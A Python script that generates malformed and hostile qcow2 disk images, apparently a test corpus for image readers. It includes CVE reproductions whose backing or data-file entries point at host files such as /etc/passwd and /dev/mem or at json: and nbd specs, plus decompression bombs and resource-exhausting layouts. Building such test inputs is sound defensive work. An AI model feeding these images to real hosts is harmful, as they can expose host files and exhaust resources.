"""Hostile qcow2 images, made byte by byte from the description of the format (QCOW2.md) and from what
is public about holes in readers of it, which have names that begin with cve_. No tool of anybody's
makes them. An image whose name ends in _as_raw is for who says that its format is raw.
"""
import struct
import zlib

BITS = 12
CLUSTER = 1 << BITS
SIZE = 1 << 20
COPIED = 1 << 63
COMPRESSED = 1 << 62
TABLE, BLOCK, L1, L2, DATA = (n * CLUSTER for n in range(1, 6))
ALL = (1 << 64) - 1

FIELDS = {"version": (4, 4), "backing_offset": (8, 8), "backing_size": (16, 4), "cluster_bits": (20, 4),
          "size": (24, 8), "crypt": (32, 4), "l1_size": (36, 4), "l1_offset": (40, 8),
          "table_offset": (48, 8), "table_clusters": (56, 4), "snapshots": (60, 4),
          "snapshots_offset": (64, 8), "incompatible": (72, 8), "compatible": (80, 8),
          "autoclear": (88, 8), "refcount_order": (96, 4), "header_length": (100, 4),
          "compression": (104, 1)}

IMAGES = []


class Image:
    """A sound image of 1 MiB with 4 KiB clusters, the first of which has data."""

    def __init__(self, version=3):
        self.data = bytearray(6 * CLUSTER)
        self.length = None
        self.companions = {}
        self.data[0:4] = b"QFI\xfb"
        self.set(version=version, cluster_bits=BITS, size=SIZE, l1_size=1, l1_offset=L1,
                 table_offset=TABLE, table_clusters=1)
        if version == 3:
            self.set(refcount_order=4, header_length=112)
        self.put(TABLE, BLOCK)
        for cluster in range(6):
            self.put(BLOCK + 2 * cluster, 1, 2)
        self.put(L1, L2 | COPIED)
        self.put(L2, DATA | COPIED)
        self.data[DATA:DATA + CLUSTER] = b"\x5a" * CLUSTER

    def put(self, offset, value, size=8):
        self.bytes_at(offset, value.to_bytes(size, "big"))

    def bytes_at(self, offset, data):
        if len(self.data) < offset + len(data):
            self.data.extend(bytes(offset + len(data) - len(self.data)))
        self.data[offset:offset + len(data)] = data

    def set(self, **fields):
        for name, value in fields.items():
            self.put(FIELDS[name][0], value, FIELDS[name][1])

    def extension(self, kind, data, length=None, at=112):
        """The only one; returns where the next one would begin."""
        self.put(at, kind, 4)
        self.put(at + 4, len(data) if length is None else length, 4)
        self.bytes_at(at + 8, data)
        return at + 8 + -(-len(data) // 8) * 8

    def backing(self, name, form=None, at=2048):
        if form is not None:
            self.extension(0xE2792ACA, form)
        self.bytes_at(at, name)
        self.set(backing_offset=at, backing_size=len(name))

    def snapshot(self, l1_offset=L1, l1_size=1, identity=b"1", name=b"s", extra_size=None,
                 disk_size=SIZE, state_size=0):
        extra = struct.pack(">QQ", state_size, disk_size)
        entry = struct.pack(">QIHHIIQII", l1_offset, l1_size, len(identity), len(name), 0, 0, 0, 0,
                            len(extra) if extra_size is None else extra_size)
        self.bytes_at(6 * CLUSTER, entry + extra + identity + name)
        self.bytes_at(7 * CLUSTER - 1, b"\0")
        self.set(snapshots=1, snapshots_offset=6 * CLUSTER)

    def bitmap(self, offset=7 * CLUSTER, entries=1, flags=0, kind=1, granularity=16, name=b"b",
               extra=0, count=1, size=None, directory=6 * CLUSTER, entry=0):
        data = struct.pack(">QIIBBHI", offset, entries, flags, kind, granularity, len(name), extra)
        data += name
        data += bytes(-len(data) % 8)
        self.bytes_at(6 * CLUSTER, data)
        self.put(7 * CLUSTER, entry)
        self.bytes_at(8 * CLUSTER - 1, b"\0")
        self.extension(0x23852875, struct.pack(">IIQQ", count, 0, len(data) if size is None else size,
                                               directory))
        self.set(autoclear=1)

    def stream(self, data, sectors=None, entries=1, zstd=False):
        """A compressed cluster, which `entries` entries of the L2 table name."""
        self.bytes_at(6 * CLUSTER, data)
        self.bytes_at(7 * CLUSTER - 1, b"\0")
        shift = 62 - (BITS - 8)
        count = -(-len(data) // 512) - 1 if sectors is None else sectors
        for n in range(entries):
            self.put(L2 + 8 * n, COMPRESSED | count << shift | 6 * CLUSTER)
        if zstd:
            self.set(incompatible=8, compression=1)

    def write(self, path):
        with open(path, "wb") as file:
            file.write(self.data)
            if self.length is not None:
                file.truncate(self.length)
        for name, data in self.companions.items():
            with open(name, "wb") as file:
                file.write(data)


def image(function):
    IMAGES.append((function.__name__, function))
    return function


def each(prefix, values, change):
    """One image for each value: change(image, value)."""
    for number, value in enumerate(values):
        def make(value=value):
            made = Image()
            change(made, value)
            return made
        IMAGES.append((f"{prefix}_{number}", make))


def raw_deflate(data):
    coder = zlib.compressobj(9, zlib.DEFLATED, -12)
    return coder.compress(data) + coder.flush()


# ---- Every field of the header with values that are none ----

FIELD_VALUES = {
    "version": [0, 1, 4, ALL >> 32],
    "cluster_bits": [0, 8, 22, 31, 32, 63, ALL >> 32],
    "size": [0, 1, 511, 1 << 31, (1 << 62), (1 << 63) - 1, 1 << 63, ALL],
    "crypt": [1, 2, 3, ALL >> 32],
    "l1_size": [0, 2, 1 << 20, 1 << 22, (1 << 22) + 1, 0x20000001, 0x7fffffff, ALL >> 32],
    "l1_offset": [0, 1, L1 + 512, 1 << 40, 1 << 62, (1 << 63) - CLUSTER, 1 << 63, ALL - CLUSTER + 1],
    "table_offset": [0, TABLE + 8, L1, 1 << 40, (1 << 63) - CLUSTER, 1 << 63, ALL - CLUSTER + 1],
    "table_clusters": [0, 2048, 2049, 1 << 20, 1 << 31, ALL >> 32],
    "snapshots": [1, 65536, 65537, ALL >> 32],
    "incompatible": [4, 8, 16, 32, 1 << 63, ALL],
    "compatible": [ALL],
    "autoclear": [2, ALL],
    "refcount_order": [0, 6, 7, 31, 64, ALL >> 32],
    "header_length": [0, 72, 103, 105, 108, CLUSTER, CLUSTER + 8, ALL >> 32],
    "compression": [1, 255],
}
for _field, _values in FIELD_VALUES.items():
    each(_field, _values, lambda made, value, field=_field: made.set(**{field: value}))
each("snapshots_offset", [8, 1 << 40, 1 << 63, ALL - CLUSTER + 1],
     lambda made, value: made.set(snapshots=1, snapshots_offset=value))
each("compression_of_feature", [0, 2], lambda made, value: made.set(incompatible=8, compression=value))

# ---- Other files ----

each("backing_offset", [CLUSTER, CLUSTER + 1, 1 << 63, ALL - 4],
     lambda made, value: made.set(backing_offset=value, backing_size=16))
each("backing_size", [1024, ALL >> 32], lambda made, value: made.set(backing_offset=2048,
                                                                     backing_size=value))
each("backing_name", [b"/etc/passwd", b"file:/etc/passwd", b"nbd://127.0.0.1/x", b"fd:3", b"",
                      b"json:{\"driver\":\"raw\",\"file\":{\"filename\":\"/etc/passwd\"}}", b"../secret",
                      b"secret\0.raw", b"image.qcow2", b"/dev/mem", b"http://127.0.0.1/x"],
     lambda made, value: made.backing(value, b"raw"))
each("backing_format", [b"vmdk", b"qcow2", b"x" * 15, b"x" * 16, b""],
     lambda made, value: made.backing(b"secret", value))
each("data_file", [b"secret", b"/etc/passwd", b"", b"json:{\"driver\":\"null-co\"}", b"image.qcow2"],
     lambda made, value: (made.set(incompatible=4), made.extension(0x44415441, value)))


@image
def backing_loop_of_one():
    made = Image()
    made.backing(b"image.qcow2", b"qcow2")
    return made


@image
def backing_loop_of_two():
    made, other = Image(), Image()
    made.backing(b"other.qcow2", b"qcow2")
    other.backing(b"image.qcow2", b"qcow2")
    made.companions["other.qcow2"] = bytes(other.data)
    return made


@image
def backing_probed_to_itself():
    """No format given, so each layer is probed (CVE-2015-5163)."""
    made = Image()
    made.backing(b"./image.qcow2")
    return made


@image
def data_file_raw_without_one():
    made = Image()
    made.set(autoclear=2)
    made.extension(0x44415441, b"secret")
    return made


# ---- Header extensions ----

each("extension_length", [CLUSTER, 1 << 31, (ALL >> 32) - 7, ALL >> 32],
     lambda made, value: made.extension(0x12345678, b"", value))
each("extension_known_length", [0x23852875, 0x6803F857, 0x0537BE77, 0x44415441, 0xE2792ACA],
     lambda made, value: made.extension(value, bytes(7)))


@image
def extensions_by_the_hundred():
    made = Image()
    at = 112
    while at < CLUSTER - 16:
        at = made.extension(0x11111111, b"", at=at)
    return made


@image
def extensions_of_two_mebibytes():
    made = Image()
    made.set(cluster_bits=21, l1_offset=3 << 21, table_offset=1 << 21)
    made.extension(0x11111111, b"x" * ((1 << 21) - 200))
    made.bytes_at(3 << 21, bytes(8))
    made.put(1 << 21, 2 << 21)
    return made


each("crypto_header", [0, 1, 1 << 63], lambda made, value: (
    made.set(crypt=2), made.extension(0x0537BE77, struct.pack(">QQ", value, ALL >> 1))))

# ---- Tables ----

each("l1_entry", [L2 | 512, L2 + 1 << 9, 1 << 40 | COPIED, COPIED | (1 << 56) - CLUSTER, COPIED | 0,
                  COPIED, TABLE, BLOCK | COPIED, L1 | COPIED, L2 | 1 << 62 | COPIED, ALL],
     lambda made, value: made.put(L1, value))
each("l2_entry", [DATA | 512, DATA | 1 << 9 | COPIED, 1 << 40 | COPIED, COPIED | (1 << 56) - CLUSTER,
                  COPIED, L2 | COPIED, L1 | COPIED, TABLE | COPIED, DATA | 1, ALL, ALL >> 2, 2,
                  COMPRESSED | COPIED | DATA, COMPRESSED, COMPRESSED | 1 << 57],
     lambda made, value: made.put(L2, value))
each("table_entry", [0, BLOCK | 8, BLOCK + 512, 1 << 40, (1 << 63) - CLUSTER, 1 << 63, ALL, TABLE, L1],
     lambda made, value: made.put(TABLE, value))
each("refcount", [0, 2, 65535], lambda made, value: made.put(BLOCK + 2 * 5, value, 2))


@image
def one_l2_table_for_all():
    """Half a terabyte in 2 MiB of L1."""
    made = Image()
    made.set(size=(1 << 18) << 21, l1_size=1 << 18, l1_offset=8 * CLUSTER)
    made.bytes_at(8 * CLUSTER, struct.pack(">Q", L2) * (1 << 18))
    return made


@image
def one_data_cluster_for_all():
    made = Image()
    made.set(size=384 << 21, l1_size=384)
    made.bytes_at(L2, struct.pack(">Q", DATA) * 512)
    made.set(l1_offset=8 * CLUSTER)
    made.bytes_at(8 * CLUSTER, struct.pack(">Q", L2) * 384)
    return made


@image
def zero_and_not_by_turns():
    made = Image()
    made.set(size=4096 << 21, l1_size=4096, l1_offset=8 * CLUSTER)
    made.bytes_at(L2, struct.pack(">QQ", 0, 1) * 256)
    made.bytes_at(8 * CLUSTER, struct.pack(">Q", L2) * 4096)
    return made


@image
def zero_cluster_of_version_2():
    made = Image(version=2)
    made.put(L2, 1)
    return made


each("extended_l2", [1, 1 << 32, 1 | 1 << 32, ALL, COMPRESSED], lambda made, value: (
    made.set(incompatible=16, cluster_bits=16, l1_offset=3 << 16, table_offset=1 << 16),
    made.put(3 << 16, 4 << 16 | COPIED), made.put(1 << 16, 2 << 16), made.put((4 << 16) + 8, value),
    made.put(4 << 16, value if value == COMPRESSED else 5 << 16 | COPIED),
    made.bytes_at((6 << 16) - 1, b"\0")))

# ---- Compressed clusters ----

BOMB = raw_deflate(bytes(CLUSTER - 1) + b"\1")
each("deflate", [b"\0" * 512, b"\xff" * 512, b"\1\0\0\xff\xff", raw_deflate(b"short"),
                 raw_deflate(b"x" * 100000), b"\x00\x00\x00\xff\xff" * 200, b"\x4b\x04\x11\x00", b"\x63"],
     lambda made, value: made.stream(value))
each("zstd", [b"\0" * 512, b"\x28\xb5\x2f\xfd", b"\x50\x2a\x4d\x18\xff\xff\xff\xff",
              b"\x50\x2a\x4d\x18\0\0\0\0" * 100,
              b"\x28\xb5\x2f\xfd\x00\xf8\x03\x00\x00\x5a", b"\x28\xb5\x2f\xfd\xe0" + b"\xff" * 8 + b"\1\0\0",
              b"\x28\xb5\x2f\xfd\x20\x00\x01\x00\x00", b"\x28\xb5\x2f\xfd\x00\x58\xfb\xff\x03\x5a"],
     lambda made, value: made.stream(value, zstd=True))
each("stream_behind_the_end", [1 << 30, (1 << 49), (1 << 57) - 1], lambda made, value: made.put(
    L2, COMPRESSED | 15 << 58 | value & ((1 << 58) - 1)))


@image
def compressed_bomb():
    """A cluster of 30 bytes that the disk consists of."""
    made = Image()
    made.stream(BOMB, entries=512)
    made.set(size=1024 << 21, l1_size=1024, l1_offset=8 * CLUSTER)
    made.bytes_at(8 * CLUSTER, struct.pack(">Q", L2) * 1024)
    return made


@image
def compressed_with_data_file():
    made = Image()
    made.stream(BOMB)
    made.set(incompatible=4)
    made.extension(0x44415441, b"secret")
    return made


# ---- Snapshots ----

each("snapshot_l1_size", [0, 2, 1 << 22, (1 << 22) + 1, ALL >> 32],
     lambda made, value: made.snapshot(l1_size=value))
each("snapshot_l1_offset", [0, 8, 1 << 40, 1 << 63, ALL - CLUSTER + 1],
     lambda made, value: made.snapshot(l1_offset=value))
each("snapshot_extra", [0, 8, 1024, 1025, 1 << 31, ALL >> 32],
     lambda made, value: made.snapshot(extra_size=value))
each("snapshot_name", [b"", b"x" * 65535, b"\x1b[2J\n\0\xff"], lambda made, value: made.snapshot(name=value))
each("snapshot_id", [b"", b"x" * 65535, b"18446744073709551616"],
     lambda made, value: made.snapshot(identity=value))
each("snapshot_size", [0, 1 << 50, 1 << 63, ALL], lambda made, value: made.snapshot(disk_size=value,
                                                                                    state_size=value))


@image
def snapshots_by_the_thousand():
    made = Image()
    entry = struct.pack(">QIHHIIQIIQQ", L1, 1, 0, 0, 0, 0, 0, 0, 16, 0, SIZE)
    made.bytes_at(6 * CLUSTER, entry * 60000)
    made.set(snapshots=60000, snapshots_offset=6 * CLUSTER)
    return made


# ---- Bitmaps ----

for _name, _values in {"offset": [0, 8, 1 << 40, ALL - CLUSTER + 1],
                       "entries": [0, 2, 0x8000000, 0x8000001, ALL >> 32], "flags": [1, 4, ALL >> 32],
                       "kind": [0, 2], "granularity": [0, 8, 32, 63, 255],
                       "name": [b"", b"x" * 1024, b"\x1b[2J\n\0\xff"], "extra": [8, ALL >> 32],
                       "count": [0, 2, 65536, ALL >> 32],
                       "size": [0, 8, 64 << 20, (64 << 20) + 1, 1 << 63, ALL],
                       "directory": [0, 8, 1 << 40, 1 << 63],
                       "entry": [1, 2, 512, 1 << 40, 1 << 40 | 1, ALL]}.items():
    each(f"bitmap_{_name}", _values, lambda made, value, name=_name: made.bitmap(**{name: value}))

# ---- Files of strange lengths ----

for _length in (0, 3, 4, 71, 72, 103, 104, 511, CLUSTER, L1, L2 + 4, DATA, DATA + 100):
    def _make(length=_length):
        made = Image()
        made.data = made.data[:length]
        return made
    IMAGES.append((f"cut_at_{_length}", _make))


@image
def file_of_eight_terabytes():
    """All of it a hole, in 512-byte clusters."""
    made = Image()
    made.data = bytearray(8 * 512)
    made.data[0:4] = b"QFI\xfb"
    made.set(version=3, cluster_bits=9, size=SIZE, l1_size=32, l1_offset=3 * 512, table_offset=512,
             table_clusters=1, refcount_order=4, header_length=112)
    made.put(512, 1024)
    made.length = 8 << 40
    return made


@image
def references_far_apart():
    """65535 of them, in a file of 64 GiB that is a hole: memory must follow what is referred to."""
    made = Image()
    made.data = bytearray(8 * 512)
    made.data[0:4] = b"QFI\xfb"
    made.set(version=3, cluster_bits=9, size=65536 * 512, l1_size=1024, l1_offset=3 * 512,
             table_offset=512, table_clusters=1, refcount_order=4, header_length=112)
    made.put(512, 1024)
    made.bytes_at(3 * 512, b"".join(struct.pack(">Q", (1 << 20) + 512 * n) for n in range(1024)))
    made.bytes_at(1 << 20, b"".join(struct.pack(">Q", (n << 20) + (2 << 20)) for n in range(65533)))
    made.length = 64 << 30
    return made


@image
def snapshots_that_share_a_table():
    """65535 with an L1 table of 32 MiB each, at the same place."""
    made = Image()
    entry = struct.pack(">QIHHIIQIIQQ", 1 << 20, 1 << 22, 0, 0, 0, 0, 0, 0, 16, 0, SIZE)
    made.bytes_at(64 << 20, entry * 65535)
    made.set(snapshots=65535, snapshots_offset=64 << 20)
    return made


@image
def refcount_blocks_that_are_one():
    """8 MiB of refcount table, which name one block, for 2 ** 31 - 1 clusters."""
    made = file_of_eight_terabytes()
    made.set(table_offset=1 << 20, table_clusters=(8 << 20) // 512, refcount_order=0)
    made.bytes_at(1 << 20, struct.pack(">Q", 4096) * (1 << 20))
    made.length = ((1 << 31) - 1) * 512
    return made


# ---- What others fell for ----

def cve(name, change=lambda made: None, data=None):
    def make():
        made = Image()
        if data is not None:
            made.data = bytearray(data)
        change(made)
        return made
    IMAGES.append((f"cve_{name}", make))


def with_data_file(name):
    return lambda made: (made.set(incompatible=4, autoclear=2), made.extension(0x44415441, name))


def old_qcow(size=SIZE, l2_bits=9):
    """A header of the first version (qcow)."""
    return b"QFI\xfb" + struct.pack(">IQIIQBBHIQ", 1, 0, 0, 0, size, 12, l2_bits, 0, 0, 48) + bytes(4096)


VMDK = (b'# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\n'
        b'createType="monolithicFlat"\nRW 2048 FLAT "/etc/passwd" 0\n').ljust(1024, b"\0")
JSON_FILE = b'json:{"driver":"file","filename":"/etc/passwd"}'

# Guessing: what the guest writes to its raw disk becomes a header that names a file of the host.
cve("2008_1945_2004_as_raw", lambda made: made.backing(b"/etc/passwd", b"raw"))
# Sizes of other formats' headers: none of them may be taken for ours.
cve("2014_0142_parallels_tracks", data=b"WithoutFreeSpace" + struct.pack("<IIIII", 2, 16, 63, 0, 1 << 31)
    + bytes(4096))
cve("2014_0148_vhdx_log", data=b"vhdxfile" + bytes(65528) + b"head" + b"\xff" * 4092)
cve("2014_0222_qcow_l2_bits", data=old_qcow(l2_bits=63))
cve("2014_0223_qcow_size", data=old_qcow(size=ALL))
cve("2022_47951_vmdk_descriptor", data=VMDK)
cve("2022_47951_vmdk_descriptor_as_raw", data=VMDK)
# Sizes of tables.
cve("2014_0143_snapshot_l1_size", lambda made: made.snapshot(l1_size=0x10000001))
cve("2014_0143_refcount_index", lambda made: made.put(L2, COPIED | (1 << 56) - CLUSTER))
cve("2014_0144_header_length", lambda made: made.set(header_length=CLUSTER + 1))
cve("2014_0144_backing_offset", lambda made: made.set(backing_offset=ALL - 1, backing_size=1))
cve("2014_0144_refcount_table_size", lambda made: made.set(table_clusters=0x00800000))
cve("2014_0144_refcount_table_offset", lambda made: made.set(table_offset=(1 << 63) - CLUSTER))
cve("2014_0144_l1_size", lambda made: made.set(l1_size=0x7fffffff))
cve("2014_0144_l1_offset", lambda made: made.set(l1_offset=(1 << 63) - CLUSTER))
cve("2014_0144_snapshot_table", lambda made: made.set(snapshots=ALL >> 32, snapshots_offset=6 * CLUSTER))
cve("2014_0145_snapshot_larger_than_active", lambda made: made.snapshot(l1_size=512))
cve("2014_0146_error_while_opening", lambda made: made.set(snapshots=1, snapshots_offset=ALL - CLUSTER + 1,
                                                          backing_offset=4000, backing_size=1023))
cve("2014_0147_refcount_block_of_itself", lambda made: made.put(TABLE, TABLE))
# Resources.
cve("2015_5162_virtual_size", lambda made: made.set(size=1 << 50))
cve("2015_5162_l1_of_32_mebibytes", lambda made: made.set(l1_size=1 << 22, size=1 << 43))
# Names of other files.
cve("2015_5163_backing_file", lambda made: made.backing(b"/etc/passwd"))
cve("2015_5163_backing_file_as_raw", lambda made: made.backing(b"/etc/passwd"))
cve("2024_4467_json_data_file", with_data_file(JSON_FILE))
cve("2024_4467_json_backing_file", lambda made: made.backing(JSON_FILE, b"raw"))
cve("2024_4467_json_nbd", lambda made: made.backing(
    b'json:{"driver":"nbd","server":{"type":"inet","host":"127.0.0.1","port":"1"}}', b"raw"))
cve("2024_32498_data_file", with_data_file(b"/etc/passwd"))
cve("2024_32498_data_file_as_raw", with_data_file(b"/etc/passwd"))
cve("2024_44082_probed_backing_file", lambda made: made.backing(b"secret"))
cve("2024_44082_as_raw", lambda made: made.backing(b"json:{\"driver\":\"qcow2\"}"))
